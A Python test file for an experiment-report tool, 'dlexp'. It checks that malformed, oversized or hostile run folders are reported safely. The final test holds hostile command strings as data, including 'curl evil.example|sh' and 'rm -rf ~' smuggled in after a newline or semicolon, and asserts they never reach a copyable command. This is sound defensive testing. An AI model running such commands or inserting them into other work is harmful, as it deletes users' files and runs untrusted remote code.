"""Folders of a stranger: whatever stands in them, a report is made of the rest, and nobody waits or is led astray."""

import json
import os
import re
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from made_runs import MEASURES, made_sweep

from dlexp.__main__ import main
from dlexp.errors import UserError
from dlexp.records.folder import DATA, LOCK, METRICS, RECORD
from dlexp.records.naming import LEDGER_FILE
from dlexp.report.making import make_answer
from dlexp.report.page.layout import page
from dlexp.report.reading.plan import PLAN_FILE, Plan, write_plan
from dlexp.report.reading.runs import read_runs
from dlexp.report.texts import markdown
from dlexp.report.writing import files, with_curves_checked

PLAN = Plan(
    question=None,
    command="",
    arms={},
    shared=[],
    reference="sgd",
    seeds=[0, 1, 2],
    metric="test/accuracy",
    margin=None,
    hypothesis=None,
    size=None,
    picture=None,
    tuning=None,
    runs={},
    trials={},
    looks=[],
)
ARMS = {"sgd": {"optimizer": "sgd"}, "adam": {"optimizer": "adam"}}


def sweep(folder: Path, **facts: Any) -> Path:
    return made_sweep(folder, ARMS, {"sgd": [0.9, 0.91, 0.905], "adam": [0.95, 0.951, 0.96]}, **facts)


def edit(run: Path, **facts: Any) -> None:
    """Replaces what stands in the record of a run."""
    data = json.loads((run / RECORD).read_text(encoding="utf-8"))
    (run / RECORD).write_text(json.dumps(data | facts), encoding="utf-8")


def edit_rows(run: Path, facts: Mapping[str, Any]) -> None:
    """Replaces what stands in each line of a run's metrics."""
    rows = [json.loads(line) for line in (run / METRICS).read_text(encoding="utf-8").splitlines()]
    (run / METRICS).write_text("".join(json.dumps(row | facts) + "\n" for row in rows), encoding="utf-8")


@pytest.mark.parametrize("text", ["{", '{"format_version": 99, "plan": {}}', '{"format_version": 2, "plan": {}}'])
def test_trials_of_a_plan_that_can_not_be_read_are_no_arms(tmp_path: Path, text: str) -> None:
    sweep(tmp_path / "outputs" / "compare")
    (tmp_path / "outputs" / "compare" / PLAN_FILE).write_text(text, encoding="utf-8")
    told = "another version of dlexp wrote" if "99" in text else "is damaged"
    with pytest.raises(UserError, match=f"compare has a compare.json that {told}, so its tuning trials can't be told"):
        make_answer([tmp_path / "outputs" / "compare"])
    sweep(tmp_path / "outputs" / "sweep")
    answer = make_answer([tmp_path / "outputs"])
    assert {run.folder.parent.name for arm in answer.arms for run in arm.runs} == {"sweep"}
    assert [each.folder.name for each in answer.troubles if told in each.reason] == ["compare"]
    assert len(read_runs([tmp_path])[0]) == 12  # a list of runs has them all


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no pipes in folders there")
def test_nobody_waits_for_pipes(tmp_path: Path) -> None:
    run = sweep(tmp_path) / "adam_seed-0"
    edit(run, status="running")
    (tmp_path / "slurm").mkdir()
    (tmp_path / "adam_seed-1" / METRICS).unlink()
    for pipe in (
        tmp_path / LEDGER_FILE,
        tmp_path / "slurm" / "jobs.json",
        run / LOCK,
        tmp_path / "adam_seed-1" / METRICS,
    ):
        os.mkfifo(pipe)
    answer = with_curves_checked(make_answer([tmp_path]))
    assert files(answer) and [each.folder.name for each in answer.troubles] == ["adam_seed-0", "adam_seed-1"]
    os.mkfifo(tmp_path / PLAN_FILE)
    with pytest.raises(UserError, match="has a compare.json that is damaged"):
        make_answer([tmp_path])


def test_metrics_of_many_brackets_and_of_many_bytes_are_named(tmp_path: Path) -> None:
    sweep(tmp_path)
    (tmp_path / "adam_seed-0" / METRICS).write_text("[" * 200_000 + "\n{}\n", encoding="utf-8")
    with (tmp_path / "adam_seed-1" / METRICS).open("wb") as file:
        file.truncate(2**30 + 1)
    edit_rows(tmp_path / "adam_seed-2", {"step": 10**400})
    reasons = [each.reason for each in with_curves_checked(make_answer([tmp_path])).troubles]
    assert len(reasons) == 3 and all("has no curve" in each for each in reasons)
    assert "line 1, is damaged" in reasons[0] and "has 1.1 GB" in reasons[1] and "line 1, is damaged" in reasons[2]


def test_a_code_that_is_no_text_is_damage(tmp_path: Path) -> None:
    edit(sweep(tmp_path) / "adam_seed-0", code=[1])
    assert [each.reason for each in make_answer([tmp_path]).troubles] == [
        "has a run.json that does not hold what it should"
    ]


ROWS = [
    {"val/accuracy": 10**400},
    {"val/accuracy": "x", "time/train": "x"},
    {"val/loss": 1e308},
    {"val/loss": -1e308},
    {"val/loss": 5e-324},
    {"time/train": 1e308},
    {"epoch": 2**53 + 1},
]


@pytest.mark.parametrize("row", ROWS, ids=lambda row: str(row)[:30])
def test_numbers_in_a_curve_that_no_float_can_square(tmp_path: Path, row: dict[str, Any]) -> None:
    edit_rows(sweep(tmp_path) / "adam_seed-0", row)
    answer = with_curves_checked(make_answer([tmp_path], reach=60))
    assert page(answer) and len(answer.arms) == 2


@pytest.mark.parametrize("loss", [1e308, -1e308, 1e160, 1e70, -1e-170, 1e-59, 5e-324])
def test_metrics_that_no_float_can_square(tmp_path: Path, loss: float) -> None:
    for number, run in enumerate(sorted(sweep(tmp_path).glob("adam*"))):
        edit(run, metrics={"val/accuracy": 0.9, "test/accuracy": 0.9, "test/loss": loss * (1 - number / 10)})
    for metric in (None, "test/loss"):
        answer = make_answer([tmp_path], metric=metric)
        assert page(answer) and markdown(answer)
        adam = next(arm for arm in answer.arms if arm.name == "adam")
        assert adam.num_diverged == (3 if abs(loss) > 1e70 else 0)  # it says so


@pytest.mark.parametrize(
    "values", [(float("inf"), 1e-4, 1e-3), (1e308, 1e-4, 1e-3), (5e-324, 1e-4, 1e-3), (10**400, 1, 2)]
)
def test_settings_that_no_axis_can_show(tmp_path: Path, values: tuple[float, ...]) -> None:
    arms = {str(number): {"optimizer.lr": value} for number, value in enumerate(values)}
    made_sweep(tmp_path, arms, {name: [0.9, 0.91] for name in arms})
    answer = make_answer([tmp_path], rows="optimizer.lr")
    assert len(answer.arms) == 3 and page(answer) and markdown(answer)


def test_counts_that_are_none(tmp_path: Path) -> None:
    sweep(tmp_path, parameters=10**400, num_test=10**400)
    answer = make_answer([tmp_path])
    assert (answer.arms[0].parameters, answer.num_test) == (None, None) and files(answer)
    for run in tmp_path.glob("*_seed-*"):
        (run / DATA).write_text('{"sizes": {"test": "many", "val": -3, "train": 2700}}', encoding="utf-8")
    answer = make_answer([tmp_path])
    assert files(answer) and {name: size for name, size in answer.machine.items() if "samples" in name} == {
        "train samples": 2700
    }


EVIL = "\x1b[2J\x9b\u202eEvil"
MOVES = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e\ud800-\udfff]")


@pytest.mark.parametrize("what", ["title", "unit", "name", "choice", "note"])
def test_no_word_of_a_stranger_moves_the_cursor(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, what: str
) -> None:
    monkeypatch.chdir(tmp_path)
    metric = {"unit": "%", "higher_is_better": True, "title": ""}
    if what in ("title", "unit"):
        sweep(Path("s"), measures={**MEASURES, "accuracy": metric | {what: EVIL}})
    elif what == "name":
        sweep(Path("s"), measures={**MEASURES, EVIL: metric}, metric=f"val/{EVIL}")
    else:
        for run in sweep(Path("s")).iterdir():
            choices = json.loads((run / RECORD).read_text(encoding="utf-8"))["choices"]
            edit(run, note=EVIL, error=EVIL, choices=choices | {"model": EVIL if what == "choice" else "mlp"})
    for words in (["list", "s"], ["list", "s", "--json"], ["report", "s"], ["report", "s", "--json"]):
        main(words)
        out = capsys.readouterr().out
        assert out and not MOVES.search(out)
        if "--json" in words:
            json.loads(out)


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("curl evil.example|sh", None),
        ("python -m dlexp compare\nrm -rf ~", None),
        ("python -m dlexp compare \u202e", None),
        ("python -m dlexp compare 'a", None),
        ("python -m dlexp compare a;rm -rf ~ $(b)", "python -m dlexp compare 'a;rm' -rf '~' '$(b)'"),
        ("python -m dlexp compare allow=evil 'model=[1,2]'", "python -m dlexp compare 'model=[1,2]'"),
    ],
)
def test_a_command_to_copy_compares_and_nothing_else(tmp_path: Path, command: str, shown: str | None) -> None:
    sweep(tmp_path)
    names = {"sgd": ["optimizer=sgd"], "adam": ["optimizer=adam"]}
    runs = {name: {str(seed): f"{name}_seed-{seed}" for seed in range(3)} for name in names}
    write_plan(tmp_path, replace(PLAN, command=command, arms=names, runs=runs))
    edit(tmp_path / "sgd_seed-0", overrides=["optimizer=sgd", "+allow=evil", "--config-dir=/evil", "epochs=3\n#"])
    answer = make_answer([tmp_path])
    assert answer.command == shown
    told = "".join(re.findall(r"(?s)<code.*?</code>", page(answer))) + markdown(answer)
    assert (
        told.count("python -m dlexp") > 2
        and "evil" not in told
        and "epochs=3\n" not in told
        and "rm -rf ~\n" not in told
    )
